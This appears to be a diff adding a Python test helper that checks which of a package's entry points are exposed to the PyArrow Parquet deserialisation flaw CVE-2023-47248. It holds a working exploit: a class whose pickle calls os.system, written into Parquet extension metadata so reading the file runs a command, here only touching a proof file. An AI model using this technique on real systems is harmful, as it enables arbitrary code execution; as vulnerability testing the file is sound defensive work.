@@ -1,0 +1,84 @@
+"""Parquet files that have older releases of PyArrow run a program, as CVE-2023-47248 describes; and who reads them."""
+
+from __future__ import annotations
+
+import importlib
+import importlib.util
+import json
+import os
+import pickle
+import sys
+from pathlib import Path
+from typing import Any
+
+ENTRIES = (
+    "airflow_hops.hops",
+    "airflow_hops.runtime.__main__",
+    "airflow_hops.runtime.gang.agent",
+    "airflow_hops.runtime.inspection.__main__",
+    "airflow_hops.runtime.probe",
+    "airflow_hops.runtime.spark.daemon",
+    "airflow_hops.runtime.spark.rehearsal",
+    "airflow_hops.runtime.tracking.tensorboard",
+    "airflow_hops.serving.__main__",
+    "airflow_hops.serving.capture.warmup",
+    "airflow_hops.serving.capture.writer",
+    "airflow_hops.serving.models.workers.zygote",
+)
+"""What this package's processes run, beside the warm process, whose forks run the first of ``airflow_hops.runtime``."""
+
+PACKAGES = ("airflow_hops.hops", "airflow_hops.runtime", "airflow_hops.serving")
+"""What the entries lie in."""
+
+
+class _Program:
+    def __init__(self, proof: Path) -> None:
+        self.proof = proof
+
+    def __reduce__(self) -> Any:
+        return os.system, (f"touch '{self.proof}'",)
+
+
+def write_crafted(path: Path, proof: Path) -> Path:
+    """Writes a file whose reader makes another file, the proof; returns its path."""
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    extension = {"ARROW:extension:name": "arrow.py_extension_type"}
+    extension["ARROW:extension:metadata"] = pickle.dumps(_Program(proof), protocol=0).decode()
+    fields = [pa.field("x", pa.int64(), metadata=extension), pa.field("label", pa.int64())]
+    pq.write_table(pa.table([[1, 2, 3], [0, 1, 0]], schema=pa.schema(fields)), path)
+    return path
+
+
+def read(path: str) -> str:
+    """What reading a file led to, in words."""
+    import pyarrow.parquet as pq
+
+    try:
+        return f"{pq.read_table(path).num_rows} rows"
+    except Exception as error:
+        return f"{type(error).__name__}: {error}"
+
+
+def read_in_forks(path: str, with_pyarrow: bool) -> dict[str, str]:
+    """Reads a file in a fork of this process for each entry, which has imported that, and PyArrow before or after."""
+    if with_pyarrow:
+        import pyarrow  # noqa: F401
+    found = {}
+    for entry in ENTRIES if with_pyarrow else PACKAGES:
+        reading, writing = os.pipe()
+        if os.fork() == 0:
+            importlib.import_module(entry)
+            importlib.util.find_spec("pyarrow")  # some libraries only ask whether it is there
+            os.write(writing, read(path)[:1000].encode())
+            os._exit(0)
+        os.close(writing)
+        with os.fdopen(reading) as stream:
+            found[entry] = stream.read()
+        os.wait()
+    return found
+
+
+if __name__ == "__main__":
+    print(json.dumps(read_in_forks(sys.argv[1], sys.argv[2] == "before")))
